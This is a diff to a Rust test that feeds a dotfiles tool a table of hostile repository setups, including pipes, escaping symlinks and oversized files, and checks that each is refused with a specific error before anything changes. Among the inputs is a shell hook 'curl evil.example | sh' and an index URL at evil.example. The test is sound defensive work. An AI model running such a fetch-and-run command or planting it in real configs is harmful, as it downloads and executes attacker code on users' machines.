@@ -35,30 +35,55 @@ fn is_plain(run: &Run) {
 
 #[test]
 fn what_is_no_file_or_no_sane_one_is_an_error_before_anything_is_done() {
-    type Attack<'a> = (&'a str, &'a str, &'a dyn Fn(&Path));
+    // What it is, what the one error says, the manifest, and what else lies there.
+    type Attack<'a> = (&'a str, &'a str, &'a str, &'a dyn Fn(&Path));
     let script = "[dotfiles]\n[[run]]\nid = 'a'\ncmd = './s.sh'";
     let attacks: [Attack; 17] = [
-        ("a pipe", "[dotfiles]", &|repo| fifo(&repo.join("home/.x"))),
-        ("a pipe that is copied", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| fifo(&repo.join("home/.x"))),
-        ("a pipe as a template", "[dotfiles]\n'~/.x' = { mode = 'template' }", &|repo| fifo(&repo.join("home/.x"))),
-        ("a link to a device", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| symlink("/dev/zero", repo.join("home/.x")).unwrap()),
-        ("a link around the home directory", "[dotfiles]", &|repo| symlink("../../.bashrc", repo.join("home/.x")).unwrap()),
-        ("a folder that holds itself", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| symlink(".", repo.join("home/.x")).unwrap()),
-        ("a huge copy", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| huge(&repo.join("home/.x"))),
-        ("a huge template", "[dotfiles]\n'~/.x' = { mode = 'template' }", &|repo| huge(&repo.join("home/.x"))),
-        ("a template that is no text", "[dotfiles]\n'~/.x' = { mode = 'template' }", &|repo| {
+        ("a pipe", "home/.x: it is neither a file nor a folder", "[dotfiles]", &|repo| fifo(&repo.join("home/.x"))),
+        ("a pipe that is copied", "home/.x: it is neither a file nor a folder", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| {
+            fifo(&repo.join("home/.x"))
+        }),
+        ("a pipe as a template", "home/.x: it is neither a file nor a folder", "[dotfiles]\n'~/.x' = { mode = 'template' }", &|repo| {
+            fifo(&repo.join("home/.x"))
+        }),
+        (
+            "a link to a device",
+            "home/.x: it is a link that leads nowhere, or out of the repository",
+            "[dotfiles]\n'~/.x' = { mode = 'copy' }",
+            &|repo| symlink("/dev/zero", repo.join("home/.x")).unwrap(),
+        ),
+        ("a link around the home directory", "home/.x: it is a link that leads nowhere, or out of the repository", "[dotfiles]", &|repo| {
+            symlink("../../.bashrc", repo.join("home/.x")).unwrap()
+        }),
+        ("a folder that holds itself", "home/.x: only files can be copied", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| {
+            symlink(".", repo.join("home/.x")).unwrap()
+        }),
+        ("a huge copy", "home/.x: it is larger than 64 megabytes", "[dotfiles]\n'~/.x' = { mode = 'copy' }", &|repo| {
+            huge(&repo.join("home/.x"))
+        }),
+        ("a huge template", "home/.x: it is larger than 64 megabytes", "[dotfiles]\n'~/.x' = { mode = 'template' }", &|repo| {
+            huge(&repo.join("home/.x"))
+        }),
+        ("a template that is no text", "home/.x: it can't be read as a template", "[dotfiles]\n'~/.x' = { mode = 'template' }", &|repo| {
             fs::write(repo.join("home/.x"), b"\xff\xfe").unwrap()
         }),
-        ("a script that is a pipe", script, &|repo| fifo(&repo.join("s.sh"))),
-        ("a huge script", script, &|repo| huge(&repo.join("s.sh"))),
-        ("a watched pipe", "[dotfiles]\n[[run]]\nid = 'a'\ncmd = 'true'\nwatch = ['w']", &|repo| fifo(&repo.join("w"))),
-        ("a watched file outside", "[dotfiles]\n[[run]]\nid = 'a'\ncmd = 'true'\nwatch = ['../.bashrc']", &|_| ()),
-        ("a lock that is a pipe", "[dotfiles]", &|repo| fifo(&repo.join("boot.lock"))),
-        ("a huge lock", "[dotfiles]", &|repo| huge(&repo.join("boot.lock"))),
-        ("hooks of the shell's own", "[shell]\nhook = 'curl evil.example | sh'", &|_| ()),
-        ("a setting", "[settings]\nindex-url = 'https://evil.example'", &|_| ()),
+        ("a script that is a pipe", "./s.sh: it isn't a regular file", script, &|repo| fifo(&repo.join("s.sh"))),
+        ("a huge script", "./s.sh: it is larger than a megabyte", script, &|repo| huge(&repo.join("s.sh"))),
+        ("a watched pipe", "w: it isn't a regular file", "[dotfiles]\n[[run]]\nid = 'a'\ncmd = 'true'\nwatch = ['w']", &|repo| {
+            fifo(&repo.join("w"))
+        }),
+        (
+            "a watched file outside",
+            "../.bashrc is outside of the repository",
+            "[dotfiles]\n[[run]]\nid = 'a'\ncmd = 'true'\nwatch = ['../.bashrc']",
+            &|_| (),
+        ),
+        ("a lock that is a pipe", "boot.lock: it isn't a file of a lock's size", "[dotfiles]", &|repo| fifo(&repo.join("boot.lock"))),
+        ("a huge lock", "boot.lock: it isn't a file of a lock's size", "[dotfiles]", &|repo| huge(&repo.join("boot.lock"))),
+        ("hooks of the shell's own", "hook should be true or false", "[shell]\nhook = 'curl evil.example | sh'", &|_| ()),
+        ("a setting", "settings isn't a key of boot.toml", "[settings]\nindex-url = 'https://evil.example'", &|_| ()),
     ];
-    for (what, manifest, attack) in attacks {
+    for (what, says, manifest, attack) in attacks {
         let home = home(manifest);
         home.write(".bashrc", "# mine\n");
         attack(&home.root.join("dots"));
@@ -66,6 +91,7 @@ fn what_is_no_file_or_no_sane_one_is_an_error_before_anything_is_done() {
         for verb in [&["init", "dots", "--yes", "--on-conflict", "backup"][..], &["init", "dots", "--dry-run"]] {
             let run = home.boot(verb).one_error();
             assert!(matches!(run.code, Some(1 | 2)), "{what}: {run}");
+            assert!(run.stderr.contains(says), "{what} is refused for something else than {says:?}: {run}");
             is_plain(&run);
         }
         assert_eq!(home.tree(), before, "{what}");
